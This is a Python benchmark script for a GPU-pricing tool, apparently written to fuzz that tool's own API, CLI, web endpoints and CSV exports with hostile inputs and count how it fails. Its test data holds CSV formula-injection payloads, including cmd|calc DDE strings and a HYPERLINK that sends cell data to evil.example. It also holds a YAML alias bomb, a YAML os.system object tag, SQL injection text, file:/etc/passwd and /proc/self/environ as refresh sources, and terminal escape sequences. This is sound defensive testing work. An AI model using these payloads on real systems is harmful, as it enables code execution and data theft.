"""Hostile input figures: bad values everywhere a user or a provider can put one, counted by outcome.

    python benchmarks/hostile_inputs.py [--pg URL] [--names 30000] [--json OUT]
                                        [--sections api,files,cli,web,memory,csv,markup]

Replays, offline and in-process, the input classes of the reliability audit (2026-12, sections 3 and 4)
that the faces must survive, and prints tried / outcome per class:

* ``api``: ``gpuscout.estimate`` with a value of every type in every argument, and every numeric workload
  field of every kind given ``nan``, ``inf``, ``1e308``, ``-1``, ``0``, ``1e-300``, huge integers,
  booleans and text, through ``Workload.from_dict`` and the advisor;
* ``files``: hostile workload files through ``gpuscout recommend --workload`` (alias bombs, deep nesting,
  UTF-16, binary, control characters);
* ``cli``: every numeric CLI option given the same number class;
* ``web``: hostile requests (workload numbers on ``/advise`` and ``POST /api/v1/recommend``, NUL bytes,
  SQL, ``%``/``_``, huge and non-finite numbers in filters, unconfigured refresh sources) against the
  app on SQLite and, with ``--pg``, on PostgreSQL: the 5xx count;
* ``memory``: ``--names`` requests with distinct unknown GPU names: RSS growth and cache sizes;
* ``csv``: CSV exports (CLI ``offers``/``recommend``, web ``/offers.csv``) of offers carrying formula
  payloads: live formulas when read with ``,`` (quotes honoured) or, pessimistically, ``;``/tab/line ends;
* ``markup``: CLI output paths with Rich markup and terminal escapes in provider strings and names.

Outcomes: ``clean`` (an error naming the field / option, exit 2, 4xx), ``ok`` (a valid value answered
with finite numbers), ``traceback`` (any other exception, exit 1 with a traceback, 5xx), ``hang`` (no
answer within 60 s), ``accepted`` (a non-finite or out-of-range value answered). Loopback only, bounded.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import math
import os
import random
import re
import signal
import string
import sys
import tempfile
import time
import urllib.parse
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "src"))

VALUES: list[Any] = [
    math.nan,
    math.inf,
    -math.inf,
    1e308,
    -1,
    0,
    1e-300,
    10**30,
    True,
    "abc",
    "1e400",
    [],
    None,
]
CLI_NUMBERS = ["nan", "inf", "-inf", "1e308", "-1", "0", "1e-300", "99999999999999999999", "abc", "1e400"]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    " =1+1",
    ";=1+1",
    "x;=cmd|' /C calc'!A0",
    "=1+1",
    "x\t=1+1",
    "\uff1d1+1",
    "a\n=1+1",
]
MARKUP = [
    "[/]",
    "[link=https://evil.example]aws[/link]",
    "[bold red]x",
    "[/bold]",
    "\\[x]",
    ":warning:",
    "\x1b]8;;https://evil.example\x1b\\aws\x1b]8;;\x1b\\",
    "\x1b[2J",
]
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"


class Hang(Exception):
    pass


def _alarm(signum: int, frame: Any) -> None:
    raise Hang


def guarded(fn: Callable[[], Any], limit: int = 60) -> tuple[str, Any]:
    """('value', result) / ('gpuscout', error) / ('exception', error) / ('hang', None)."""
    from gpuscout.errors import GpuscoutError

    signal.signal(signal.SIGALRM, _alarm)
    signal.alarm(limit)
    try:
        return "value", fn()
    except Hang:
        return "hang", None
    except GpuscoutError as exc:
        return "gpuscout", exc
    except Exception as exc:  # what this benchmark counts
        return "exception", exc
    finally:
        signal.alarm(0)


def _finite(value: Any) -> bool:
    return not isinstance(value, float) or math.isfinite(value)


def _numbers_ok(recs: list[Any]) -> bool:
    import dataclasses

    for r in recs:
        if r.cost is None or not math.isfinite(r.cost.total):
            return False
        if r.unit_costs is not None and not all(_finite(v) for v in dataclasses.astuple(r.unit_costs)):
            return False
        if not all(_finite(v) for v in (r.time_s, r.score, r.price_usd_per_hour)):
            return False
    return True


# ---- api -------------------------------------------------------------------------------------------
def section_api() -> dict[str, Counter[str]]:
    import gpuscout
    from gpuscout.advise.api import recommend
    from gpuscout.advise.workload import (
        BatchWorkload,
        FinetuneWorkload,
        PretrainWorkload,
        ServeWorkload,
        Workload,
    )
    from gpuscout.catalog.offer import Offer

    out: dict[str, Counter[str]] = {"estimate": Counter(), "workloads": Counter()}
    for arg in (
        "precision",
        "engine",
        "kv_dtype",
        "parallel",
        "task",
        "batch",
        "gpus",
        "context_in",
        "context_out",
    ):
        for value in [*VALUES, {}, 3.5, "", "x" * 5000, "\x00"]:
            kind, res = guarded(lambda a=arg, v=value: gpuscout.estimate("llama-3.1-8b", "H100", **{a: v}))
            if kind == "gpuscout":
                out["estimate"]["clean" if res.field in (arg, "context_out") else "unnamed"] += 1
            elif kind == "value":
                out["estimate"]["ok" if _finite(res.memory.total_gb) else "accepted"] += 1
            else:
                out["estimate"][kind if kind == "hang" else "traceback"] += 1
    offers = [
        Offer(
            provider=p,
            instance_type=f"{p}-{n}",
            region="us-east-1",
            accelerator=g,
            gpu_count=n,
            gpu_memory_gb=m,
            price_usd_per_hour=price * n,
            spot_price_usd_per_hour=price * n / 2,
            source="benchmark",
            observed_at=None,
        )
        for p, g, m, price in (
            ("runpod", "H100-SXM", 80.0, 2.5),
            ("vastai", "RTX4090", 24.0, 0.4),
            ("gcp", "L4", 24.0, 0.7),
        )
        for n in (1, 8)
    ]
    bases: dict[str, tuple[type[Workload], dict[str, Any]]] = {
        "serve": (ServeWorkload, {"kind": "serve", "model": "llama-3.1-8b", "concurrency": 8}),
        "batch": (BatchWorkload, {"kind": "batch", "model": "llama-3.1-8b", "output_tokens_total": 1e7}),
        "finetune": (FinetuneWorkload, {"kind": "finetune", "model": "llama-3.1-8b", "dataset_tokens": 1e7}),
        "pretrain": (
            PretrainWorkload,
            {"kind": "pretrain", "model": "llama-3.1-8b", "token_budget": 1e9, "gpus": 8},
        ),
    }
    drop = {"requests_per_s": "concurrency", "nodes": "gpus", "images_total": "output_tokens_total"}
    for _, (cls, base) in bases.items():
        for name, info in cls.model_fields.items():
            args = {
                a for a in getattr(info.annotation, "__args__", (info.annotation,)) if a is not type(None)
            }
            if not args <= {int, float} or name in ("width", "height", "steps"):
                continue
            for value in VALUES:
                data = {k: v for k, v in base.items() if k != drop.get(name)}
                if name in ("bursts_per_day", "burst_minutes"):
                    data.update(bursts_per_day=2, burst_minutes=5)
                data[name] = value

                def run(d: dict[str, Any] = data) -> Any:
                    return recommend(Workload.from_dict(d), offers, top=5)

                kind, res = guarded(run)
                if kind == "gpuscout":
                    out["workloads"]["clean" if name in str(res) else "unnamed"] += 1
                elif kind == "value":
                    number = isinstance(value, int | float) and not isinstance(value, bool)
                    valid = value is None or (number and math.isfinite(value))  # None: "not given"
                    out["workloads"]["ok" if valid and _numbers_ok(res) else "accepted"] += 1
                else:
                    out["workloads"][kind if kind == "hang" else "traceback"] += 1
    return out


# ---- cli helpers -------------------------------------------------------------------------------------
def run_cli(argv: list[str]) -> tuple[int, str, BaseException | None]:
    from typer.testing import CliRunner

    from gpuscout.cli import app

    def go() -> Any:
        return CliRunner().invoke(app, argv)

    kind, res = guarded(go)
    if kind == "hang":
        return 124, "", None
    if kind != "value":
        return 1, str(res), res
    exc = res.exception if res.exception is not None and not isinstance(res.exception, SystemExit) else None
    return res.exit_code, res.output, exc


def cli_outcome(
    code: int, output: str, exc: BaseException | None, names: tuple[str, ...], value_ok: bool
) -> str:
    if code == 124:
        return "hang"
    if exc is not None or "Traceback" in output:
        return "traceback"
    if code == 2:
        low = output.lower()
        return "clean" if any(n.lower() in low for n in names) else "unnamed"
    if code in (0, 1):  # 1: the command ran and reported a failure (every source failed...)
        return "ok" if value_ok else "accepted"
    return "traceback"


def small_store(path: Path, texts: list[str] | None = None) -> str:
    from datetime import UTC, datetime, timedelta

    from gpuscout.catalog.offer import Offer
    from gpuscout.catalog.sources.snapshot import SNAPSHOT_NAME
    from gpuscout.catalog.store import Store

    url = f"sqlite:///{path}"
    store = Store(url)
    store.write_snapshot(SNAPSHOT_NAME, [], fallback=True)
    items = texts or ["plain"]
    offers = [
        Offer(
            provider=f"p{i}{t}",
            instance_type=t,
            region=f"us-east-1{t}",
            zone=t,
            accelerator="H100-SXM",
            gpu_count=1,
            gpu_memory_gb=80.0,
            price_usd_per_hour=0.1 + i / 1000,
            spot_price_usd_per_hour=None,
            source=f"bench:{t}",
            observed_at=datetime.now(UTC) - timedelta(hours=1),
            notes=t,
        )
        for i, t in enumerate(items)
    ]
    store.write_snapshot("bench", offers)
    store.close()
    return url


# ---- files -------------------------------------------------------------------------------------------
def section_files(tmp: Path) -> dict[str, Counter[str]]:
    head = b"kind: serve\nmodel: llama-3.1-8b\n"
    bomb = (
        b"a: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(
            f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n".encode()
            for p, c in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + head
        + b"regions: *i\n"
    )
    files = {
        "bomb.yaml": bomb,
        "deep.json": b'{"kind": "serve", "model": "m", "regions": ' + b"[" * 3000 + b"]" * 3000 + b"}",
        "deep.yaml": head + b"regions: " + b"[" * 5000 + b"]" * 5000 + b"\n",
        "utf16.yaml": head.decode().encode("utf-16"),
        "utf16be.yaml": head.decode().encode("utf-16-be"),
        "binary.yaml": bytes(range(256)) * 4,
        "control.yaml": head + b"regions: [\x1b]\n",
        "nan.json": b'{"kind": "serve", "model": "llama-3.1-8b", "budget_usd": NaN}',
        "inf.yaml": head + b"requests_per_s: .inf\n",
        "huge.yaml": head + b"egress_gb: 1e308\n",
        "tiny.yaml": head + b"ttft_ms_max: 1e-300\n",
        "python.yaml": head + b"x: !!python/object/apply:os.system ['true']\n",
    }
    rnd = random.Random(14)
    for i in range(20):
        files[f"random{i}.yaml"] = bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 400)))
    out: Counter[str] = Counter()
    for name, content in files.items():
        path = tmp / name
        path.write_bytes(content)
        code, output, exc = run_cli(["recommend", "serve", "--workload", str(path), "--top", "1"])
        # random bytes may happen to be a valid workload: only a traceback, a hang or exit 0 on a named
        # hostile file count against it
        out[
            cli_outcome(
                code,
                output,
                exc,
                ("workload", "regions", "budget", "requests", "egress", "ttft", "x", "kind", "model", name),
                value_ok=name.startswith("random"),
            )
        ] += 1
    return {"workload files": out}


# ---- cli ---------------------------------------------------------------------------------------------
def section_cli(tmp: Path) -> dict[str, Counter[str]]:
    db = small_store(tmp / "cli.sqlite3")
    m = "llama-3.1-8b"
    options: list[tuple[list[str], str, tuple[str, ...]]] = [
        (["offers"], "--min-vram", ()),
        (["offers"], "--gpus", ()),
        (["offers"], "--max-price", ()),
        (["offers"], "--limit", ()),
        (["history", "H100"], "--days", ()),
        (["prune"], "--older-than-days", ()),
        (["gpus"], "--min-memory", ()),
        (["estimate", m, "--gpu", "H100"], "--gpus", ()),
        (["estimate", m, "--gpu", "H100"], "--context-in", ("context_in",)),
        (["estimate", m, "--gpu", "H100"], "--batch", ()),
        (["vram", m], "--context", ()),
        (["diagnose", m, "--gpu", "H100"], "--measured-tps", ("measured_tps",)),
        (["recommend", "serve", m], "--rps", ("requests_per_s",)),
        (["recommend", "serve", m], "--budget", ("budget_usd",)),
        (["recommend", "serve", m], "--egress-gb", ("egress_gb",)),
        (["recommend", "serve", m], "--monthly-tokens", ("monthly_output_tokens",)),
        (["recommend", "serve", m], "--spot-reclaims-per-hour", ()),
        (["recommend", "batch", m], "--output-total", ("output_tokens_total",)),
        (["recommend", "finetune", m], "--dataset-tokens", ("dataset_tokens",)),
        (["recommend", "pretrain", m, "--gpus", "8"], "--tokens", ("token_budget",)),
        (["refresh", "-s", "snapshot"], "--timeout", ()),
    ]
    out: Counter[str] = Counter()
    for prefix, option, names in options:
        for value in CLI_NUMBERS:
            argv = [*prefix, f"{option}={value}"]
            if prefix[0] in ("offers", "history", "prune", "recommend", "refresh"):
                argv += ["--db", db]
            code, output, exc = run_cli(argv)
            bare = option.lstrip("-")
            value_ok = _finite_text(value)
            out[
                cli_outcome(
                    code, output, exc, (option, f"{bare}:", f"{bare.replace('-', '_')}:", *names), value_ok
                )
            ] += 1
    return {"cli options": out}


def _finite_text(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


# ---- web ---------------------------------------------------------------------------------------------
def hostile_requests() -> list[tuple[str, str, Any]]:
    reqs: list[tuple[str, str, Any]] = []
    nasty = [
        "\x00",
        "%00",
        "a\x00b",
        "' OR 1=1--",
        "%",
        "_",
        "\\",
        "[/]",
        "<script>",
        "ä" * 500,
        "x" * 2000,
        "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    ]
    for base in ("/api/v1/offers", "/", "/offers.csv", "/offers.json"):
        for field in ("gpu", "provider", "region", "interconnect", "sort", "order", "pricing"):
            for v in nasty:
                reqs.append(("GET", base, {field: v}))
        for field in ("min_vram", "gpus", "max_price", "page", "per_page"):
            for v in CLI_NUMBERS:
                reqs.append(("GET", base, {field: v}))
    for v in nasty:
        reqs.append(("GET", "/api/v1/history", {"gpu": "H100", "provider": v}))
    fields = [
        "requests_per_s",
        "concurrency",
        "budget_usd",
        "egress_gb",
        "storage_retention_days",
        "monthly_output_tokens",
        "download_weights_gb",
        "ttft_ms_max",
        "prompt_tokens",
    ]
    for f in fields:
        for v in CLI_NUMBERS:
            reqs.append(("GET", "/advise", {"kind": "serve", "model": "llama-3.1-8b", f: v}))
            reqs.append(
                ("POST", "/api/v1/recommend", {"workload": {"kind": "serve", "model": "llama-3.1-8b", f: v}})
            )
    for f in ("output_tokens_total", "input_tokens_total", "deadline_hours"):
        for v in [*CLI_NUMBERS, 1e308, math.inf, math.nan]:
            reqs.append(
                (
                    "POST",
                    "/api/v1/recommend",
                    {
                        "workload": {
                            "kind": "batch",
                            "model": "llama-3.1-8b",
                            "output_tokens_total": 1e6,
                            f: v,
                        }
                    },
                )
            )
    for src in (
        "nope",
        "file:/etc/passwd",
        "file:/dev/zero",
        "file:",
        "\x00",
        "vastai,file:/proc/self/environ",
    ):
        reqs.append(("POST", "/api/v1/refresh?source=" + urllib.parse.quote(src, safe=""), "token"))
    return reqs


def section_web(db: str, label: str) -> dict[str, Counter[str]]:
    from fastapi.testclient import TestClient

    from gpuscout.web import create_app
    from gpuscout.web.services import WebServices

    os.environ["GPUSCOUT_ADMIN_TOKEN"] = "bench-token"
    out: Counter[str] = Counter()
    app = create_app(db, services=WebServices(db, cache_seconds=0))
    with TestClient(app, raise_server_exceptions=False) as client:
        for method, path, payload in hostile_requests():
            if payload == "token":
                r = client.post(path, headers={"Authorization": "Bearer bench-token"})
            elif method == "POST":
                r = client.post(
                    path, content=json.dumps(payload), headers={"content-type": "application/json"}
                )
            else:
                r = client.get(path, params=payload)
            out["5xx" if r.status_code >= 500 else f"{r.status_code // 100}xx"] += 1
            if r.status_code == 200 and re.search(r"\$\s*(inf|nan)", r.text, re.IGNORECASE):
                out["non-finite money shown"] += 1
    return {f"web requests ({label})": out}


# ---- memory ------------------------------------------------------------------------------------------
def _rss_kib() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return 0


def section_memory(db: str, n: int) -> dict[str, Any]:
    import gc

    from fastapi.testclient import TestClient

    from gpuscout.web import create_app
    from gpuscout.web.services import WebServices

    services = WebServices(db, cache_seconds=300)
    rnd = random.Random(2)
    with TestClient(create_app(db, services=services), raise_server_exceptions=False) as client:
        for _ in range(200):  # warm up: imports, caches of the name resolver
            client.get("/api/v1/offers", params={"gpu": "".join(rnd.choices(string.ascii_letters, k=40))})
        gc.collect()
        before = _rss_kib()
        t0 = time.perf_counter()
        for _ in range(n):
            client.get("/api/v1/offers", params={"gpu": "".join(rnd.choices(string.ascii_letters, k=40))})
        seconds = time.perf_counter() - t0
        gc.collect()
        after = _rss_kib()
    caches = {
        name: (len(c), c.inflight) for name, c in (("bodies", services._bodies), ("pages", services._pages))
    }
    return {
        "requests": n,
        "rss_kib_before": before,
        "rss_kib_after": after,
        "rss_growth_kib": after - before,
        "seconds": round(seconds, 1),
        "cache (entries, inflight)": caches,
    }


# ---- csv ---------------------------------------------------------------------------------------------
def live_formulas(text: str) -> int:
    def starts(cell: str) -> bool:
        head = cell.lstrip(' "')
        if cell[:1] in ("\t", "\r", "\n"):
            return True
        return bool(head) and head[0] in TRIGGERS and not _finite_text(head.split(",")[0].rstrip('"'))

    found = sum(starts(c) for row in csv.reader(io.StringIO(text, newline="")) for c in row)
    return found + sum(starts(f.lstrip(" ")) for f in re.split(r"[;\t\r\n]", text))


def section_csv(tmp: Path) -> dict[str, Any]:
    from fastapi.testclient import TestClient

    from gpuscout.web import create_app
    from gpuscout.web.services import WebServices

    db = small_store(tmp / "csv.sqlite3", FORMULAS)
    out: dict[str, Any] = {}
    for argv in (
        ["offers", "--csv", "--limit", "0"],
        ["recommend", "serve", "llama-3.1-8b", "--csv", "--top", "100"],
    ):
        code, text, _ = run_cli([*argv, "--db", db])
        out["CLI " + " ".join(argv[:2])] = {"exit": code, "live formulas": live_formulas(text)}
    with TestClient(create_app(db, services=WebServices(db, cache_seconds=0))) as client:
        for q in ("?per_page=200", "?per_page=200&scope=all"):
            text = client.get("/offers.csv" + q).text
            out["web /offers.csv" + q] = {"live formulas": live_formulas(text)}
    return {"csv exports": out}


# ---- markup ------------------------------------------------------------------------------------------
def section_markup(tmp: Path) -> dict[str, Counter[str]]:
    db = small_store(tmp / "markup.sqlite3", MARKUP)
    out: Counter[str] = Counter()
    runs: list[list[str]] = [
        ["recommend", "serve", "llama-3.1-8b", "--top", "20", "--db", db],
        *(
            ["recommend", "serve", "llama-3.1-8b", "--top", "20", "--explain", str(i), "--db", db]
            for i in range(1, len(MARKUP) + 1)
        ),
        ["offers", "--limit", "0", "--db", db],
        ["sources", "--db", db],
        ["history", "H100", "--db", db],
        ["faq", "llama-3.1-8b", "--db", db],
        *(["estimate", m, "--gpu", "H100"] for m in MARKUP),
        *(["vram", m] for m in MARKUP),
        *(["offers", "--gpu", m, "--db", db] for m in MARKUP),
        *(["refresh", "-s", m, "--db", db] for m in MARKUP),
    ]
    for argv in runs:
        code, output, exc = run_cli(argv)
        if exc is not None or "Traceback" in output:
            out["traceback"] += 1
        elif "\x1b" in output:
            out["terminal escape sent"] += 1
        elif "evil.example" not in output and any("link=" in a for a in argv) and code == 0:
            out["hidden link"] += 1
        else:
            out["literal"] += 1
    return {"markup": out}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--pg", help="PostgreSQL URL for the web section (a database this run may write)")
    ap.add_argument("--names", type=int, default=30_000, help="requests with distinct unknown GPU names")
    ap.add_argument("--sections", default="api,files,cli,web,memory,csv,markup")
    ap.add_argument("--json", type=Path, help="write the results here")
    args = ap.parse_args(argv)
    sections = set(args.sections.split(","))
    results: dict[str, Any] = {}
    with tempfile.TemporaryDirectory() as d:
        tmp = Path(d)
        os.environ["GPUSCOUT_DATA_DIR"] = str(tmp / "data")
        for var in ("GPUSCOUT_DB", "GPUSCOUT_OFFER_FILES", "GPUSCOUT_ADMIN_TOKEN"):
            os.environ.pop(var, None)
        from gpuscout.catalog.api import open_store

        sqlite = f"sqlite:///{tmp / 'web.sqlite3'}"
        open_store(sqlite).close()  # the bundled snapshot: a real catalog to rank
        steps: list[tuple[str, Callable[[], dict[str, Any]]]] = [
            ("api", section_api),
            ("files", lambda: section_files(tmp)),
            ("cli", lambda: section_cli(tmp)),
            ("web", lambda: section_web(sqlite, "SQLite")),
            ("web", lambda: section_web(args.pg, "PostgreSQL") if args.pg else {}),
            ("memory", lambda: {"memory": section_memory(sqlite, args.names)}),
            ("csv", lambda: section_csv(tmp)),
            ("markup", lambda: section_markup(tmp)),
        ]
        for name, step in steps:
            if name in sections:
                t0 = time.perf_counter()
                part = step()
                for key, value in part.items():
                    results[key] = dict(value) if isinstance(value, Counter) else value
                    took = time.perf_counter() - t0
                    print(f"{key:32s} {json.dumps(results[key], default=str)}  ({took:.0f} s)", flush=True)
    if args.json:
        args.json.write_text(json.dumps(results, indent=2, default=str))
    return 0


if __name__ == "__main__":
    sys.exit(main())
